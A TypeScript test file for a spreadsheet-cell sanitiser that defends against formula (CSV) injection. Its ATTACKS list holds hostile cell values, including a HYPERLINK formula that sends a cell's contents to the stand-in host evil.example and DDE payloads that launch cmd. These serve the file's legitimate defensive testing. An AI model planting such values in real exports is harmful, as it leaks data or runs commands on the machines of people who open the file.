import assert from 'node:assert/strict';
import { test } from 'node:test';
import fc from 'fast-check';
import { safeCell, unsafeCell } from './safe-cell.ts';

/** Texts that spreadsheets calculate, fetch or run: OWASP's list, with full-width signs and line ends. */
const ATTACKS = [
  '=1+1',
  '=HYPERLINK("http://evil.example?x="&A1,"click")',
  `=cmd|' /C calc'!A0`,
  '+cmd|x!A',
  '-2+3+cmd|x!A',
  '@SUM(1+1)*cmd|x!A',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '＝1+1',
  '＋1+1',
  '－1+1',
  '＠SUM(1)',
  '+86 138 0013 8000',
  "'=1+1",
];

test('no text that a spreadsheet would calculate begins a cell', () => {
  for (const text of ATTACKS) assert.match(safeCell(text), /^'/, text);
});

test('numbers and plain texts stay as they are', () => {
  for (const text of ['-12.5', '+8613800138000', '1e-5', '-.5', '苏州恒泰', 'a=b', "it's", '', "'quoted'"])
    assert.equal(safeCell(text), text);
});

test('what was made safe is read back exactly, whatever the text', () => {
  const risky = fc.array(fc.constantFrom("'", '=', '+', '-', '@', '\t', '\n', '1', '.', 'a', '＝'), { maxLength: 8 });
  fc.assert(
    fc.property(
      fc.oneof(
        fc.string(),
        risky.map((parts) => parts.join('')),
      ),
      (text) => {
        assert.equal(unsafeCell(safeCell(text)), text);
      },
    ),
  );
});
